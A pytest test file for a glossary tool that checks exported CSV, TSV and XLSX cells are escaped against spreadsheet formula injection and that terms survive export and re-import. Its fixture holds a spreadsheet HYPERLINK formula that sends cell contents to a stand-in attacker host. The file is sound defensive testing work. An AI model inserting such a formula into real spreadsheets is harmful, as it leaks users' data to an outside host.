"""Glossary and proposal spreadsheets: a term never runs as a formula, and always comes back.

OWASP "CSV Injection": a cell starting with = + - @ tab or CR is a formula to
Excel and LibreOffice. Terms come from articles, so they can be hostile.
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from glossary.formats import read_glossary, write_glossary
from glossary.formats.cells import neutralise, restore
from glossary.model import Concept, Term
from translator.review.po.proposals import Proposal, proposals_csv

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def concepts() -> list[Concept]:
    return [
        Concept("c1", terms=[Term("en", HOSTILE), Term("ru", "-изм")]),
        Concept("c2", terms=[Term("en", "-ism"), Term("es", "@home")]),
        Concept("c3", terms=[Term("en", "+1 vote"), Term("es", "'-raro")]),
        Concept("c4", terms=[Term("en", "NA"), Term("es", "#N/A")]),
    ]


def terms_of(found: list[Concept]) -> list[list[tuple[str, str]]]:
    return [sorted((t.lang, t.text) for t in c.terms) for c in found]


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_no_exported_cell_starts_with_a_formula_trigger(tmp_path, suffix):
    path = tmp_path / f"glossary{suffix}"
    write_glossary(path, concepts())
    with path.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle, delimiter="\t" if suffix == ".tsv" else ",")
                 for cell in row]
    assert HOSTILE not in cells and f"'{HOSTILE}" in cells
    assert not [cell for cell in cells if cell.startswith(TRIGGERS)]


@pytest.mark.parametrize("suffix", [".csv", ".tsv", ".xlsx"])
def test_export_then_import_keeps_every_term(tmp_path, suffix):
    path = tmp_path / f"glossary{suffix}"
    write_glossary(path, concepts())
    assert terms_of(read_glossary(path)) == terms_of(concepts())


def test_two_column_export_is_neutralised_too(tmp_path):
    path = tmp_path / "pairs.csv"
    write_glossary(path, concepts(), source="en", target="ru")
    with path.open(encoding="utf-8", newline="") as handle:
        assert list(csv.reader(handle))[1] == [f"'{HOSTILE}", "'-изм"]
    back = read_glossary(path, source="en", target="ru")
    assert [sorted(t.text for t in c.terms) for c in back] == [sorted([HOSTILE, "-изм"])]


def test_xlsx_cells_are_typed_strings_never_formulas(tmp_path):
    from openpyxl import load_workbook

    path = tmp_path / "glossary.xlsx"
    write_glossary(path, concepts())
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} == {"s"}
    hostile = next(cell for cell in cells if cell.value == HOSTILE)
    assert hostile.quotePrefix  # Excel keeps it text even after the cell is edited


def test_a_hand_escaped_term_loses_only_the_escape(tmp_path):
    path = tmp_path / "by-hand.csv"
    path.write_text("en,ru\n'-ism,'=изм\n'til,дo\n", encoding="utf-8")
    assert terms_of(read_glossary(path)) == [[("en", "-ism"), ("ru", "=изм")],
                                             [("en", "'til"), ("ru", "дo")]]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-ism", "@SUM(A1)", "\tx", "\rx", "'=x",
                                  "''-x", "'til", "plain", "", "'"])
def test_neutralise_is_undone_exactly(text):
    safe = neutralise(text)
    assert not safe.startswith(TRIGGERS)
    assert restore(safe) == text


def test_glossary_proposals_csv_cells_are_neutralised():
    proposal = Proposal("add", "entity", "", "ru", "Попова", "en", "", "Popova", HOSTILE,
                        "story.md", "p1", f"She said {HOSTILE}.")
    rows = list(csv.reader(proposals_csv([proposal]).splitlines()))
    assert rows[1][8] == f"'{HOSTILE}"
    assert not [cell for row in rows for cell in row if cell.startswith(TRIGGERS)]


def test_cli_export_and_import_round_trip_a_hostile_termbase(tmp_path: Path):
    from tests.conftest import run_cli

    db = tmp_path / "g.db"
    added = run_cli("glossary", "add", "-g", str(db), "--en", HOSTILE, "--ru", "-изм")
    assert added.returncode == 0, added.stderr
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"export{suffix}"
        done = run_cli("glossary", "export", "-g", str(db), str(out))
        assert done.returncode == 0, done.stderr
        fresh = tmp_path / f"new{suffix}.db"
        again = run_cli("glossary", "import", "-g", str(fresh), str(out))
        assert again.returncode == 0, again.stderr
        shown = run_cli("glossary", "show", "-g", str(fresh), "c1")
        assert HOSTILE in shown.stdout and "-изм" in shown.stdout
